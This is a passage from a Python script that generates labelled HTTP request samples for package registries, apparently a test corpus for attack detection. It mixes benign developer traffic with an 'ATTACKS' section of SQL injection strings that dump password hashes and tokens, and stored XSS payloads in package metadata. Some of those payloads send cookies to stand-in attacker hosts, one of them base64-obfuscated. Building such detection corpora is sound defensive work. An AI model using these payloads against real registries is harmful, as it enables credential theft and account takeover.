              "@app.route('/user/<username>')\ndef profile(username):\n    return f\"<h1>Hello {escape(username)}</h1>\"\n\n"
              "@app.route('/pkg/<path:name>')\ndef pkg(name):\n    return render_template('pkg.html', name=name)\n" + FENCE + "\n")


def devcontent_comments():
    _dev_gh_comment("gh-comment-stacktrace",
                    "Still failing on 3.2.1:\n\n" + FENCE + "\norg.postgresql.util.PSQLException: ERROR: syntax error at or near \"UNION\"\n  Position: 58\n"
                    "\tat org.postgresql.core.v3.QueryExecutorImpl.receiveErrorResponse(QueryExecutorImpl.java:2725)\n\tat com.acme.registry.search.SearchDao.find(SearchDao.java:117)\n"
                    "\tat org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:166)\n" + FENCE + "\n\n"
                    "The generated SQL was `SELECT name FROM packages WHERE name ILIKE ? UNION SELECT name FROM aliases WHERE alias ILIKE ? ORDER BY name LIMIT 20` – the `ORDER BY` needs parentheses around the union.")
    _dev_gh_comment("gh-comment-php",
                    "Suggest using a prepared statement here:\n\n" + FENCE + "php\n<?php\n$stmt = $pdo->prepare('SELECT * FROM packages WHERE vendor = :vendor AND name = :name');\n"
                    "$stmt->execute(['vendor' => $vendor, 'name' => $name]);\n$pkg = $stmt->fetch(PDO::FETCH_ASSOC);\necho htmlspecialchars($pkg['description'], ENT_QUOTES, 'UTF-8');\n" + FENCE, kind="pulls")
    _dev_gh_comment("gh-comment-java-git",
                    "We should pass `--` before the URL so a repository URL that starts with `--upload-pack=` can never be parsed as an option:\n\n"
                    + FENCE + "java\nProcessBuilder pb = new ProcessBuilder(\"git\", \"clone\", \"--depth\", \"1\", \"--\", url, dir.toString());\npb.redirectErrorStream(true);\nProcess p = pb.start();\n" + FENCE + "\n\n"
                    "and reject URLs whose scheme is not `https` or `ssh` (no `ext::`, no `file://`).")
    _dev_gh_comment("gh-comment-bash",
                    "Quick script to find tarballs with suspicious entries:\n\n" + FENCE + "bash\n#!/usr/bin/env bash\nset -euo pipefail\n"
                    "find ./storage -name '*.tgz' -print0 | while IFS= read -r -d '' f; do\n  if tar -tzf \"$f\" | grep -qE '(^/|\\.\\./)'; then\n    echo \"BAD: $f\"\n  fi\ndone\n" + FENCE)
    _dev_gh_comment("gh-comment-innerhtml",
                    "```suggestion\n    titleEl.textContent = pkg.description;\n```\n\n`titleEl.innerHTML = pkg.description` renders whatever the publisher put in `description`, e.g. `<img src=x onerror=...>`.",
                    kind="pulls")
    _dev_gh_comment("gh-comment-xxe",
                    "The POM parser should refuse DTDs entirely:\n\n" + FENCE + "java\nDocumentBuilderFactory f = DocumentBuilderFactory.newInstance();\n"
                    "f.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\nf.setFeature(\"http://xml.org/sax/features/external-general-entities\", false);\n"
                    "f.setXIncludeAware(false);\nf.setExpandEntityReferences(false);\n" + FENCE + "\n\nA test fixture with a `<!DOCTYPE project>` header should then fail with `SAXParseException`.")
    _dev_gh_comment("gh-comment-compose",
                    "Repro setup:\n\n" + FENCE + "yaml\nservices:\n  registry:\n    image: registry:2.8.3\n    ports: [\"5000:5000\"]\n    volumes:\n      - ./data:/var/lib/registry\n"
                    "      - ./config.yml:/etc/docker/registry/config.yml:ro\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: example\n" + FENCE + "\n\nthen `docker compose up -d && docker push localhost:5000/test/alpine:3.20`.")
    _dev_gh_comment("gh-comment-curl",
                    "You can reproduce it without the CLI:\n\n" + FENCE + "sh\ncurl -sS -X PUT \\\n  -H 'Content-Type: application/json' \\\n  -H \"Authorization: Bearer $NPM_TOKEN\" \\\n"
                    "  --data @publish.json \\\n  https://npm.acme-internal.dev/@acme%2fui-kit | jq '.error'\n" + FENCE + "\n\nThe server answers `409 Conflict` even though the version is new.")
    _dev_gh_comment("gh-comment-log4j",
                    "For anyone still on 2.14: upgrade `org.apache.logging.log4j:log4j-core` to 2.17.1+. As a stopgap:\n\n" + FENCE + "sh\nexport JAVA_OPTS=\"$JAVA_OPTS -Dlog4j2.formatMsgNoLookups=true\"\n"
                    "zip -q -d log4j-core-*.jar org/apache/logging/log4j/core/lookup/JndiLookup.class\n" + FENCE)
    _dev_gh_comment("gh-comment-explain",
                    "Plan after the index:\n\n" + FENCE + "\nEXPLAIN ANALYZE SELECT p.name, max(v.created_at)\nFROM packages p JOIN versions v ON v.package_id = p.id\nWHERE p.scope = 'acme'\nGROUP BY p.name\n"
                    "UNION ALL\nSELECT name, created_at FROM legacy_packages WHERE scope = 'acme';\n\n Append  (cost=0.42..812.33 rows=412 width=40) (actual time=0.051..3.112 rows=409 loops=1)\n"
                    "   ->  HashAggregate  (cost=0.42..610.10 rows=380 width=40)\n Planning Time: 0.412 ms\n Execution Time: 3.318 ms\n" + FENCE)
    _dev_gh_comment("gh-comment-go",
                    FENCE + "go\ncmd := exec.CommandContext(ctx, \"git\", \"fetch\", \"--prune\", \"--\", remote, \"+refs/heads/*:refs/remotes/origin/*\")\ncmd.Dir = repoDir\n"
                    "cmd.Env = append(os.Environ(), \"GIT_TERMINAL_PROMPT=0\")\nif out, err := cmd.CombinedOutput(); err != nil {\n\treturn fmt.Errorf(\"git fetch: %w: %s\", err, out)\n}\n" + FENCE
                    + "\n\nNo shell involved, so branch names like `feature/$(whoami)` are just weird names.", kind="pulls")
    _dev_gh_comment("gh-comment-terraform",
                    FENCE + "hcl\nresource \"null_resource\" \"inventory\" {\n  provisioner \"local-exec\" {\n    command = \"echo ${aws_instance.web.private_ip} >> hosts.ini\"\n  }\n}\n"
                    "module \"vpc\" {\n  source  = \"terraform-aws-modules/vpc/aws\"\n  version = \"~> 5.13\"\n}\n" + FENCE + "\n\nThe provisioner runs on the machine running `terraform apply`.")


def devcontent_hosting():
    _dev_gl_note("gitlab-note-ci",
                 "Working pipeline:\n\n" + FENCE + "yaml\nbuild:\n  image: rust:1.82\n  script:\n    - curl -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal\n"
                 "    - cargo build --release --locked\n    - cargo publish --registry acme --token \"$CARGO_TOKEN\"\n  rules:\n    - if: $CI_COMMIT_TAG =~ /^v\\d+\\.\\d+\\.\\d+$/\n" + FENCE)
    _dev_gl_note("gitlab-note-helm",
                 FENCE + "yaml\n{{- if .Values.ingress.enabled -}}\napiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: {{ include \"acme-api.fullname\" . }}\n"
                 "  annotations:\n    {{- toYaml .Values.ingress.annotations | nindent 4 }}\nspec:\n  rules:\n  {{- range .Values.ingress.hosts }}\n    - host: {{ .host | quote }}\n"
                 "  {{- end }}\n{{- end }}\n" + FENCE + "\n\n`{{ .Release.Name }}` is empty during `helm template` without `--name-template`.")
    _dev_gitea("gitea-issue-nginx", "Block .git directories in the bundled nginx config",
               "We ship this in `deploy/nginx.conf`:\n\n" + FENCE + "nginx\nlocation ~ /\\.(git|svn|hg) {\n    deny all;\n    return 404;\n}\n"
               "location /v2/ {\n    client_max_body_size 0;\n    proxy_pass http://registry:5000;\n    proxy_set_header X-Forwarded-Proto $scheme;\n}\n" + FENCE + "\n\n"
               "Apache users need `RedirectMatch 404 /\\.git` in `.htaccess`.")
    _dev_gitea("gitea-issue-powershell", "Windows install docs",
               FENCE + "powershell\nInvoke-WebRequest -Uri https://gitea.example.dev/acme/tools/releases/download/v1.2.0/install.ps1 -OutFile install.ps1\n"
               "Set-ExecutionPolicy -Scope Process Bypass\n.\\install.ps1 -Prefix \"$env:LOCALAPPDATA\\acme\"\n" + FENCE)
    _dev_gl_note("gitlab-note-gradle",
                 FENCE + "kotlin\ntasks.register<Exec>(\"buildFrontend\") {\n    workingDir = file(\"frontend\")\n    commandLine(\"npm\", \"run\", \"build\")\n}\n"
                 "publishing {\n    repositories {\n        maven {\n            url = uri(\"https://nexus.example.net/repository/maven-releases/\")\n"
                 "            credentials { username = System.getenv(\"NEXUS_USER\"); password = System.getenv(\"NEXUS_PASS\") }\n        }\n    }\n}\n" + FENCE, mr=False)
    _dev_gitea("gitea-issue-schema", "Schema dump for the search bug",
               FENCE + "sql\n--\n-- PostgreSQL database dump\n--\nSET statement_timeout = 0;\nCREATE TABLE public.versions (\n    id bigint NOT NULL,\n    package_id bigint NOT NULL,\n"
               "    version text NOT NULL,\n    yanked boolean DEFAULT false NOT NULL\n);\nALTER TABLE ONLY public.versions ADD CONSTRAINT versions_pkey PRIMARY KEY (id);\n"
               "GRANT SELECT ON TABLE public.versions TO readonly;\n" + FENCE)
    repo = pick(REPOS)
    req("dev-content", "gh-release-security", "POST", "/repos/%s/releases" % repo, gh_api_headers(),
        json.dumps({"tag_name": "v2.8.4", "name": "v2.8.4 (security)", "draft": False,
                    "body": "## Security\n\n- **CVE-2026-41873**: the `/-/v1/search` endpoint concatenated the `text` parameter into a `LIKE` clause. "
                            "A query such as `text=x' OR '1'='1` returned private packages. Fixed by using bound parameters.\n"
                            "- README rendering now strips `on*` attributes and `javascript:` URLs.\n\nUpgrade: `npm i -g acme-registry@2.8.4`\n"}),
        "application/json")
    req("dev-content", "gh-gist-bashrc", "POST", "/gists", gh_api_headers(),
        json.dumps({"description": "my shell setup for registry work", "public": False, "files": {
            ".bashrc": {"content": "export PATH=\"$HOME/.local/bin:$HOME/.cargo/bin:$PATH\"\nalias ll='ls -alF'\nalias k=kubectl\n"
                                   "npmrc() { echo \"//npm.acme-internal.dev/:_authToken=${NPM_TOKEN}\" > ~/.npmrc; }\n"
                                   "dlayer() { curl -sL -H \"Authorization: Bearer $(cat ~/.docker/token)\" \"https://$1/v2/$2/blobs/$3\" | tar -tz | head; }\n"}}}),
        "application/json")
    req("dev-content", "gh-gist-sql", "POST", "/gists", gh_api_headers(),
        json.dumps({"description": "weekly downloads report", "public": True, "files": {"downloads.sql": {"content":
            "WITH weekly AS (\n  SELECT package_id, date_trunc('week', ts) AS wk, count(*) AS n\n  FROM downloads\n  WHERE ts > now() - interval '90 days'\n  GROUP BY 1, 2\n)\n"
            "SELECT p.name, w.wk, w.n,\n       CASE WHEN lag(w.n) OVER (PARTITION BY p.id ORDER BY w.wk) IS NULL THEN NULL\n"
            "            ELSE round(100.0 * (w.n - lag(w.n) OVER (PARTITION BY p.id ORDER BY w.wk)) / nullif(lag(w.n) OVER (PARTITION BY p.id ORDER BY w.wk), 0), 1) END AS pct\n"
            "FROM weekly w JOIN packages p ON p.id = w.package_id\nORDER BY p.name, w.wk;\n"}}}), "application/json")
    php = ("<?php\n\nnamespace Acme\\Registry\\Http;\n\nuse Symfony\\Component\\HttpFoundation\\Request;\n\nfinal class SearchController\n{\n"
           "    public function __invoke(Request $request): array\n    {\n        $q = (string) $request->query->get('q', '');\n"
           "        $sql = 'SELECT name, description FROM packages WHERE name LIKE :q ORDER BY downloads DESC LIMIT 20';\n"
           "        return $this->db->fetchAllAssociative($sql, ['q' => addcslashes($q, '%_') . '%']);\n    }\n}\n")
    req("dev-content", "gh-contents-php", "PUT", "/repos/acme/registry-php/contents/src/Http/SearchController.php", gh_api_headers(),
        json.dumps({"message": "search: use bound parameter for LIKE", "content": b64(php), "branch": "fix/search-like", "sha": rhex(40)}), "application/json")
    wf = ("name: release\non:\n  push:\n    tags: ['v*']\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    permissions: { contents: read, id-token: write }\n    steps:\n"
          "      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with: { node-version: 20, registry-url: 'https://registry.npmjs.org' }\n"
          "      - run: npm ci && npm test\n      - run: npm publish --provenance --access public\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n")
    req("dev-content", "gh-contents-workflow", "PUT", "/repos/acme/ui-kit/contents/.github/workflows/release.yml", gh_api_headers(),
        json.dumps({"message": "ci: publish with provenance", "content": b64(wf), "branch": "main", "sha": rhex(40)}), "application/json")


def devcontent_uploads():
    _dev_art_put("artifactory-put-install-sh", "/artifactory/generic-local/tools/install.sh",
                 "#!/bin/sh\n# Installs the acme CLI into /usr/local/bin\nset -eu\nOS=$(uname -s | tr '[:upper:]' '[:lower:]')\nARCH=$(uname -m)\n"
                 "case \"$ARCH\" in x86_64) ARCH=amd64 ;; aarch64|arm64) ARCH=arm64 ;; esac\nTMP=$(mktemp -d)\ntrap 'rm -rf \"$TMP\"' EXIT\n"
                 "curl -fsSL \"https://artifactory.acme.io/artifactory/generic-local/tools/acme_${OS}_${ARCH}.tar.gz\" -o \"$TMP/acme.tgz\"\n"
                 "tar -xzf \"$TMP/acme.tgz\" -C \"$TMP\"\nsudo install -m 0755 \"$TMP/acme\" /usr/local/bin/acme\necho \"installed $(/usr/local/bin/acme --version)\"\n",
                 "application/x-sh")
    _dev_art_put("artifactory-put-flyway", "/artifactory/generic-local/db/migrations/V42__drop_legacy_tables.sql",
                 "-- V42: remove the pre-2020 tables\nBEGIN;\nINSERT INTO packages (name, scope) SELECT name, scope FROM legacy_packages\n  WHERE name NOT IN (SELECT name FROM packages);\n"
                 "DROP TABLE IF EXISTS legacy_packages;\nDROP TABLE IF EXISTS legacy_versions;\nDELETE FROM settings WHERE key LIKE 'legacy.%';\nCOMMIT;\n",
                 "application/sql")
    _dev_art_put("artifactory-put-dockerfile", "/artifactory/generic-local/templates/python/Dockerfile",
                 "# syntax=docker/dockerfile:1.7\nFROM python:3.12-slim AS base\nENV PIP_NO_CACHE_DIR=1 PYTHONDONTWRITEBYTECODE=1\n"
                 "RUN --mount=type=secret,id=pipconf,target=/etc/pip.conf pip install --upgrade pip\nWORKDIR /srv/app\nCOPY requirements.txt .\n"
                 "RUN pip install -r requirements.txt\nCOPY . .\nRUN useradd -r -u 10001 app && chown -R app /srv/app\nUSER app\n"
                 "HEALTHCHECK CMD python -c \"import urllib.request,sys; sys.exit(urllib.request.urlopen('http://127.0.0.1:8000/healthz').status != 200)\"\n"
                 "CMD [\"gunicorn\", \"-b\", \"0.0.0.0:8000\", \"app:create_app()\"]\n", "text/plain")
    _dev_art_put("artifactory-put-jenkinsfile", "/artifactory/generic-local/ci/Jenkinsfile",
                 "pipeline {\n  agent { label 'linux' }\n  stages {\n    stage('Test') { steps { sh 'make test' } }\n    stage('Publish') {\n"
                 "      when { branch 'main' }\n      steps {\n        withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n"
                 "          sh 'echo \"//npm.acme-internal.dev/:_authToken=${NPM_TOKEN}\" > .npmrc && npm publish'\n        }\n      }\n    }\n  }\n"
                 "  post { always { junit 'reports/**/*.xml' } }\n}\n", "text/plain")
    _dev_art_put("artifactory-put-compose", "/artifactory/generic-local/deploy/docker-compose.yml",
                 "services:\n  verdaccio:\n    image: verdaccio/verdaccio:6\n    ports: [\"4873:4873\"]\n    volumes:\n      - ./conf:/verdaccio/conf\n      - ./storage:/verdaccio/storage\n"
                 "  proxy:\n    image: nginx:1.27-alpine\n    command: [\"/bin/sh\", \"-c\", \"envsubst < /etc/nginx/templates/default.conf.template > /etc/nginx/conf.d/default.conf && exec nginx -g 'daemon off;'\"]\n",
                 "application/x-yaml")
    html = ("<!DOCTYPE HTML>\n<html lang=\"en\">\n<head>\n<title>billing-api 1.4.0 API</title>\n<meta name=\"generator\" content=\"javadoc/17.0.12\">\n"
            "<link rel=\"stylesheet\" type=\"text/css\" href=\"stylesheet.css\" title=\"Style\">\n<script type=\"text/javascript\" src=\"script.js\"></script>\n"
            "<script type=\"text/javascript\" src=\"script-dir/jquery-3.7.1.min.js\"></script>\n</head>\n<body class=\"package-index-page\">\n"
            "<script type=\"text/javascript\">var pathtoroot = \"./\";\nloadScripts(document, 'script');</script>\n<noscript><div>JavaScript is disabled on your browser.</div></noscript>\n"
            "<main role=\"main\"><h1 class=\"title\">billing-api 1.4.0 API</h1>\n<a href=\"com/acme/billing/package-summary.html\">com.acme.billing</a></main>\n</body>\n</html>\n")
    bnd, body = multipart([("raw.directory", "/docs/billing-api/1.4.0"), ("raw.asset1", "index.html", "text/html", html),
                           ("raw.asset1.filename", "index.html")])
    req("dev-content", "nexus-upload-javadoc", "POST", "/service/rest/v1/components?repository=raw-hosted",
        nexus_headers(extra=[["Content-Type", "multipart/form-data; boundary=" + bnd]]), body)
    # crates publish with a code-heavy README
    name, ver = "proc-runner", "0.3.0"
    readme = ("# proc-runner\n\n" + FENCE + "rust\nuse std::process::Command;\n\nlet out = Command::new(\"sh\")\n    .arg(\"-c\")\n    .arg(\"git rev-parse HEAD && cat /etc/os-release\")\n"
              "    .output()?;\nprintln!(\"{}\", String::from_utf8_lossy(&out.stdout));\n\nunsafe {\n    libc::setenv(c\"RUST_LOG\".as_ptr(), c\"debug\".as_ptr(), 1);\n}\n" + FENCE + "\n")
    meta = {"name": name, "vers": ver, "deps": [], "features": {}, "authors": ["Kenji Watanabe <kenji@example.jp>"],
            "description": "Run shell commands with timeouts and captured output", "readme": readme, "readme_file": "README.md",
            "keywords": ["process", "shell", "exec"], "categories": ["os"], "license": "MIT", "repository": "https://github.com/kenji/proc-runner"}
    crate = make_tgz({"Cargo.toml": '[package]\nname = "%s"\nversion = "%s"\n' % (name, ver), "README.md": readme}, prefix="%s-%s/" % (name, ver))
    mj = json.dumps(meta).encode()
    raw("dev-content", "crates-publish-readme", "PUT", "/api/v1/crates/new",
        [["Host", "crates.io"], ["User-Agent", pick(CARGO_UAS)], ["Accept", "application/json"], ["Authorization", "cio" + ralnum(32)]],
        struct.pack("<I", len(mj)) + mj + struct.pack("<I", len(crate)) + crate, "application/octet-stream")


# ===========================================================================
# ATTACKS: shared helpers
# ===========================================================================

ATK_UAS = ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.4",
           "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
           "axios/1.7.7", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"] + NPM_UAS[:2]
ATK_HOST_OOB = ["203.0.113.66", "198.51.100.23", "x7k2.oast.example", "cb.attacker-infra.example", "45.33.32.156"]


def ahs(host, ua=None, extra=(), accept="*/*"):
    hs = [["Host", host], ["User-Agent", ua or pick(ATK_UAS)], ["Accept", accept]]
    hs.extend([list(e) for e in extra])
    return hs


def atk_npm_publish(cat, slug, name="@acme/ui-kit", ver="3.14.1", desc="UI kit", readme=None, version_extra=None,
                    attach_name=None, deps=None, top_extra=None, host=None, scripts=None, raw_json_fix=None):
    pj, tgz = npm_tarball(name, ver, desc if isinstance(desc, str) else "x", scripts, deps)
    host = host or pick(NPM_HOSTS)
    v = dict(pj)
    v.update({"_id": "%s@%s" % (name, ver), "description": desc, "readme": readme or md_readme(name, "UI kit"),
              "dist": {"integrity": sha512_b64(tgz), "shasum": hashlib.sha1(tgz).hexdigest(),
                       "tarball": "https://%s/%s/-/%s-%s.tgz" % (host, name, name.split("/")[-1], ver)}})
    if deps is not None:
        v["dependencies"] = deps
    if version_extra:
        v.update(version_extra)
    att = attach_name or "%s-%s.tgz" % (name, ver)
    body = {"_id": name, "name": name, "description": desc, "dist-tags": {"latest": ver}, "versions": {ver: v},
            "access": "public", "_attachments": {att: {"content_type": "application/octet-stream", "data": b64(tgz), "length": len(tgz)}}}
    if top_extra:
        body.update(top_extra)
    text = json.dumps(body, ensure_ascii=False)
    if raw_json_fix:
        text = raw_json_fix(text)
    return req(cat, slug, "PUT", "/" + npm_enc(name), npm_headers(host, cmd="publish", auth=True, accept="*/*"), text, "application/json")


def atk_pypi_upload(cat, slug, overrides, filename=None, host="upload.pypi.org"):
    name, ver = overrides.get("name", "acme-billing-client"), overrides.get("version", "2.4.1")
    whl = make_wheel(name, ver, "client")
    fields = {":action": "file_upload", "protocol_version": "1", "metadata_version": "2.3", "name": name, "version": ver,
              "filetype": "bdist_wheel", "pyversion": "py3", "summary": "Client for the Acme billing API",
              "description": md_readme(name, "Client for the Acme billing API", kind="py"),
              "description_content_type": "text/markdown", "author": pick(PEOPLE)[0], "license": "MIT",
              "sha256_digest": sha256_of(whl)}
    fields.update(overrides)
    flist = list(fields.items()) + [("content", filename or "%s-%s-py3-none-any.whl" % (py_norm(name).replace("-", "_"), ver),
                                     "application/octet-stream", whl)]
    bnd, body = multipart_bytes(flist)
    return raw(cat, slug, "POST", "/legacy/", [["Host", host], ["User-Agent", pick(TWINE_UAS)], ["Accept", "*/*"],
                                                ["Authorization", "Basic " + b64("__token__:pypi-AgEIcHlwaS5vcmc" + ralnum(60))],
                                                ["Content-Type", "multipart/form-data; boundary=" + bnd]], body)


# ===========================================================================
# ATTACKS: SQL injection (search endpoints, query params, bodies, headers)
# ===========================================================================

def attack_sqli():
    C = "sqli"
    gets = [
        ("registry.npmjs.org", "/-/v1/search?text=%s&size=20" % q("react' UNION SELECT name,password_hash,email,NULL FROM users--")),
        ("npm.acme-internal.dev", "/-/v1/search?text=hooks&size=20%3BSELECT%20pg_sleep(10)--"),
        ("pypi.org", "/search/?q=x%27%20AND%201%3D(SELECT%201%20FROM%20pg_sleep(5))--&o="),
        ("pypi.acme-internal.dev", "/pypi/requests'%20OR%20'1'%3D'1/json"),
        ("azuresearch-usnc.nuget.org", "/query?q=json&skip=0&take=20%3BWAITFOR%20DELAY%20'0%3A0%3A10'--&prerelease=true"),
        ("nuget.acme-internal.dev", "/api/v2/FindPackagesById()?id=%27Acme.Billing%27)%3BDROP%20TABLE%20Packages%3B--"),
        ("packagist.org", "/search.json?q=symfony&type=library%27%20AND%20extractvalue(1%2Cconcat(0x7e%2C(SELECT%20version())))--%20-"),
        ("packagist.org", "/packages/list.json?vendor=acme'/**/UNION/**/SELECT/**/username,password/**/FROM/**/fos_user--+"),
        ("crates.io", "/api/v1/crates?q=serde&sort=downloads%2C(CASE%20WHEN%20(SELECT%20substr(token%2C1%2C1)%20FROM%20api_tokens%20LIMIT%201)%3D'a'%20THEN%201%20ELSE%201%2F0%20END)"),
        ("crates.io", "/api/v1/crates?user_id=1%20UNION%20SELECT%20id,gh_login,gh_access_token,NULL,NULL%20FROM%20users--"),
        ("rubygems.org", "/api/v1/search.json?query=rails%27)%20OR%201%3D1--&page=1"),
        ("rubygems.org", "/api/v1/versions/rails'||(SELECT%20CHR(65)||pg_sleep(5))||'.json"),
        ("artifactory.acme.io", "/artifactory/api/search/artifact?name=billing*%27%20OR%201%3D1--&repos=libs-release-local"),
        ("nexus.example.net", "/service/rest/v1/search?repository=maven-releases&name=billing-api%27))%20UNION%20SELECT%20username,password,NULL%20FROM%20security_user--"),
        ("harbor.example.net", "/v2/_catalog?n=10&last=a%27%20UNION%20SELECT%20username%7C%7C%27%3A%27%7C%7Cpassword%20FROM%20harbor_user--"),
        ("harbor.example.net", "/api/v2.0/projects?name=library'+AND+1%3DCAST((SELECT+password+FROM+harbor_user+LIMIT+1)+AS+int)--&page=1"),
        ("harbor.example.net", "/api/v2.0/search?q=nginx%2527%2520OR%25201%253D1--%2520"),
        ("gitea.example.dev", "/api/v1/repos/search?q=x&sort=updated&order=desc,(select+1+from+pg_sleep(5))"),
        ("gitlab.example.com", "/api/v4/projects?search=x&order_by=id)+AND+(SELECT+1+FROM+(SELECT+SLEEP(5))a)--+&sort=asc"),
        ("npm.acme-internal.dev", "/-/v1/search?text=x%27/**/uNiOn/**/sElEcT/**/1,2,concat(name,0x3a,password)/**/fRoM/**/users--%20-"),
        ("packagist.org", "/search.json?q=monolog%27%20/*!50000UNION*/%20/*!50000SELECT*/%201,group_concat(email),3%20FROM%20fos_user%23"),
        ("registry.terraform.io", "/v1/modules/search?q=vpc%27%20AND%201%3D1%20UNION%20SELECT%20namespace,api_token,NULL%20FROM%20users--&provider=aws"),
        ("anaconda.org", "/search?q=numpy%27%3B%20DROP%20TABLE%20packages%3B--"),
        ("dtrack.acme-internal.dev", "/api/v1/component?searchText=%27%20OR%20%271%27%3D%271&pageSize=100"),
    ]
    for host, path in gets:
        req(C, "search-param", "GET", path, ahs(host, accept="application/json"))
    # JSON body with \u0027 escapes: advisory bulk lookup by package name
    body = '{"lodash\\u0027 UNION SELECT id,cve,title FROM advisories WHERE \\u00271\\u0027=\\u00271":["4.17.20"],"react":["18.3.1"]}'
    req(C, "audit-json", "POST", "/-/npm/v1/security/advisories/bulk",
        npm_headers("npm.acme-internal.dev", cmd="audit", accept="application/json"), body, "application/json")
    # cookie and header carriers
    req(C, "cookie", "GET", "/project/requests/", ahs("pypi.acme-internal.dev", pick(BROWSERS), [["Cookie", "session_id=%s; ui_lang=en' AND SLEEP(5)-- -" % ralnum(24)]],
                                                       accept="text/html"))
    req(C, "header-xff", "GET", "/packages/%s/%s/%s/requests-2.32.3-py3-none-any.whl" % (rhex(2), rhex(2), rhex(60)),
        ahs("files.acme-internal.dev", pick(PIP_UAS), [["X-Forwarded-For", "127.0.0.1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))x)-- -"]]))
    req(C, "login-form", "POST", "/login_check",
        ahs("packagist.acme-internal.dev", pick(BROWSERS), [["Origin", "https://packagist.acme-internal.dev"]], accept="text/html"),
        form([("_username", "admin'-- -"), ("_password", "x"), ("_csrf_token", ralnum(43))]), "application/x-www-form-urlencoded")
    xmlrpc = ("<?xml version='1.0'?>\n<methodCall>\n<methodName>search</methodName>\n<params>\n<param>\n<value><struct>\n<member>\n<name>name</name>\n"
              "<value><array><data><value><string>x' UNION SELECT name, password, email FROM accounts_user--</string></value></data></array></value>\n"
              "</member>\n</struct></value>\n</param>\n<param>\n<value><string>or</string></value>\n</param>\n</params>\n</methodCall>\n")
    req(C, "xmlrpc", "POST", "/pypi", ahs("pypi.acme-internal.dev", "xmlrpclib.py/1.0.1 (by www.pythonware.com)"), xmlrpc, "text/xml")
    gql = {"query": "{ projects(search: \"x' UNION SELECT id, encrypted_password, email FROM users--\", first: 20) { nodes { id fullPath } } }"}
    req(C, "graphql", "POST", "/api/graphql", ahs("gitlab.example.com", accept="application/json", extra=[["PRIVATE-TOKEN", "glpat-" + ralnum(20)]]),
        json.dumps(gql), "application/json")


# ===========================================================================
# ATTACKS: stored and reflected XSS through package metadata and UIs
# ===========================================================================

def attack_xss():
    C = "xss"
    atk_npm_publish(C, "npm-description", name="left-padder", ver="1.0.3",
                    desc="<script>fetch('https://cb.attacker-infra.example/c?'+document.cookie)</script>")
    atk_npm_publish(C, "npm-readme", name="@evil/tiny-utils", ver="0.0.9",
                    readme="# tiny-utils\n\nFast helpers.\n\n<img src=x onerror=\"alert(document.domain)\">\n")
    atk_npm_publish(C, "npm-readme-link", name="react-modal-x", ver="2.1.0",
                    readme="# react-modal-x\n\nSee the [documentation](javascript:alert(document.cookie)) for details.\n")
    atk_npm_publish(C, "npm-homepage", name="fast-json-patch2", ver="3.1.1",
                    version_extra={"homepage": "javascript:eval(atob('ZmV0Y2goJy8vY2IuYXR0YWNrZXItaW5mcmEuZXhhbXBsZS8/Jytsb2NhbFN0b3JhZ2UudG9rZW4p'))",
                                   "bugs": {"url": "javascript:alert(1)"}})
    atk_npm_publish(C, "npm-keywords", name="svg-sprite-kit", ver="1.2.0",
                    version_extra={"keywords": ["svg", "<svg/onload=alert(1)>", "icons"]})
    atk_npm_publish(C, "npm-readme-entity", name="md-table-fmt", ver="0.3.0",
                    readme='# md-table-fmt\n\n<a href="jav&#x09;ascript&#x3A;alert(document.cookie)">Click for the demo</a>\n')
    atk_npm_publish(C, "npm-author", name="colors-next", ver="1.4.44",
                    version_extra={"author": {"name": "<iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>", "email": "x@example.com"}})
    atk_npm_publish(C, "npm-readme-json-escape", name="@acme/ui-kit", ver="3.14.2",
                    readme="# ui-kit\n\n<script>new Image().src='//cb.attacker-infra.example/?c='+encodeURIComponent(document.cookie)</script>\n",
                    raw_json_fix=lambda t: t.replace("<", "\\u003c").replace(">", "\\u003e"))
    atk_npm_publish(C, "npm-readme-mxss", name="sanitize-lite", ver="0.1.1",
                    readme="# sanitize-lite\n\n<math><mtext><table><mglyph><style><img src=x onerror=alert(document.domain)></style></mglyph></table></mtext></math>\n")
    atk_npm_publish(C, "npm-readme-html-escaped", name="markdown-it-emoji-plus", ver="3.0.1",
                    readme="# emoji\n\n<div>\n\n[demo](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(document.cookie))\n\n</div>\n")
    atk_pypi_upload(C, "pypi-summary", {"name": "requests-toolbelt2", "summary": "<script>document.location='https://cb.attacker-infra.example/?'+document.cookie</script>"})
    atk_pypi_upload(C, "pypi-description", {"name": "colourama", "description": "# colourama\n\n<details open ontoggle=\"fetch('//x7k2.oast.example/'+document.cookie)\"><summary>Install</summary>pip install colourama</details>\n"})
    atk_pypi_upload(C, "pypi-project-url", {"name": "djang0-rest", "project_urls": "Homepage, javascript:alert(document.cookie)//https://github.com/x"})
    pom = make_pom("com.evil", "util", "1.0.0").replace(
        "<description>", "<description>&lt;script&gt;alert(document.domain)&lt;/script&gt;").replace(
        "<url>https://github.com/acme/util</url>", "<url>javascript:alert(1)</url>")
    req(C, "pom-description", "PUT", "/repository/maven-releases/com/evil/util/1.0.0/util-1.0.0.pom",
        mvn_headers("nexus.example.net", auth=True), pom, "text/xml")
    m = make_manifest([(digest(), 31337)], {"org.opencontainers.image.description": "<img src=x onerror=\"alert(document.cookie)\">",
                                            "org.opencontainers.image.title": "payments-api"})
    req(C, "oci-annotation", "PUT", "/v2/acme/payments-api/manifests/2026.12.01", reg_headers("harbor.example.net"),
        json.dumps(m), m["mediaType"])
    req(C, "harbor-repo-desc", "PUT", "/api/v2.0/projects/library/repositories/nginx",
        ahs("harbor.example.net", pick(BROWSERS), [["Authorization", "Basic " + b64("dev:" + ralnum(12))], ["X-Harbor-CSRF-Token", ralnum(44)]]),
